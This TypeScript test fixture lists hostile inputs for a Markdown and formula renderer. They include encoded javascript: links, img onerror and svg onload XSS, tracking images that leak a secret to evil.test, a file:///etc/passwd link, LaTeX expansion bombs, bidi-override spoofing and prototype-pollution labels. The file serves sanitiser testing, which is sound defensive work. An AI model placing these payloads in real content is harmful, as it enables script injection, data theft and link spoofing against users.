/** A text that attacks the page, or the renderer. */
export interface Hostile {
  readonly name: string
  readonly text: string
}

const CALL = 'window.__ran=1'

const links = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&#10;script:${CALL}`,
  `&#x6a;avascript&colon;${CALL}`,
  `<\u0001javascript:${CALL}>`,
  `<java\u00adscript:${CALL}>`,
  `\\javascript:${CALL}`,
  `%6aavascript:${CALL}`,
  `data:text/html,<b>`,
  'vbscript:x',
  'blob:https://docs.test/1',
  'file:///etc/passwd',
  'about:blank',
  'ftp://evil.test/',
  'sms:+1?body=x',
  'view-source:https://docs.test/',
  'https://user:secret@docs.test/',
  'mailto:a@b.test?body=secret',
].map((address) => ({ name: `link to ${JSON.stringify(address)}`, text: `before [label](${address}) after` }))

const images = [
  'https://evil.test/b.png?d=SECRET',
  '//evil.test/b.png',
  '\\\\evil.test/b.png',
  'https:evil.test/b.png',
  'https://docs.test@evil.test/b.png',
  'https://docs.test.evil.test/b.png',
  'https://evil.test#https://docs.test/',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'javascript:alert(1)',
].map((address) => ({
  name: `image from ${JSON.stringify(address)}`,
  text: `![alt](${address}) and ![alt][r]\n\n[r]: ${address}\n`,
}))

const html = [
  `<img src=x onerror=${CALL}>`,
  `<script>${CALL}</script>`,
  `<svg onload=${CALL}>`,
  '<iframe src="https://evil.test/"></iframe>',
  '<base href="https://evil.test/">\n\n![a](/b.png)',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<form><input name="querySelector"><button formaction="javascript:0">go</button></form>',
  `<details open ontoggle=${CALL}>x</details>`,
  '<p style="position:fixed;inset:0;background:red">cover</p>',
  '<a id="root" name="cookie" href="x">x</a>',
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  '<title>changed</title>',
  '<docs-assistant></docs-assistant>',
].map((text) => ({ name: text.slice(0, 40), text }))

const formulas = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{https://evil.test}',
  '\\includegraphics{https://evil.test/b.png}',
  '\\htmlId{root}{x}',
  '\\class{da-root}{x}',
  '\\style{position:fixed}{x}',
  '\\kern9999em x',
  '\\rlap{\\rule{0em}{99em}}\\smash{\\Huge X}',
  '\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}',
  '\\frac{1',
  '\\newcommand{\\x}{\\x}\\x',
].map((source) => ({ name: `formula ${source}`, text: `$$${source}$$\n\n$${source}^2$\n` }))

const tricks = [
  {
    name: 'a label that names another host',
    text: '[https://docs.test/login](https://evil.test/login) and [docs.test](https://evil.test/)',
  },
  { name: 'a label turned around', text: '[a\u202etset.scod\u202c](https://evil.test/)' },
  { name: 'an override outside', text: 'pay \u202eevil\u202c now' },
  { name: 'tags that carry hidden words', text: 'hello\u{e0041}\u{e0042}' },
  { name: 'a link without words', text: '[](https://evil.test/) [ ](https://evil.test/) [\u200b](https://evil.test/)' },
  { name: 'code that reads otherwise', text: '```sh\ncurl docs.test\u202e/hs\n```\n\n`a\u200bb`' },
  { name: 'info string with words', text: '```js fixed inset-0" onclick="x\nx\n```' },
  { name: 'a footnote with quotes', text: '[^"onclick=x]: y\n\nz[^"onclick=x]' },
  {
    name: 'prototype labels',
    text: '[__proto__] [constructor] [a][toString]\n\n[__proto__]: /x\n\n[^__proto__]: n\n\nx[^__proto__]',
  },
  {
    name: 'a title with quotes',
    text: '[a](https://docs.test/ "x\\" onmouseover=\\"y") ![a](https://docs.test/x.png "\\" onerror=\\"y")',
  },
  { name: 'nul and odd breaks', text: 'a\0b\u0085c\u2028d\u2029e\ud800f' },
  { name: 'an endless word', text: 'W'.repeat(5000) },
  { name: 'a tower of accents', text: 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(200) },
  { name: 'a mermaid diagram', text: '```mermaid\ngraph TD; A["<img src=https://evil.test/b.png>"]\n```' },
  {
    name: 'links in a link',
    text: '[![alt](https://evil.test/b.png) x[^1] www.evil.test](https://docs.test/)\n\n[^1]: n',
  },
  { name: 'a late image definition', text: '![x]\n\n[x]: https://evil.test/leak.png\n' },
]

export const HOSTILE: readonly Hostile[] = [...links, ...images, ...html, ...formulas, ...tricks]
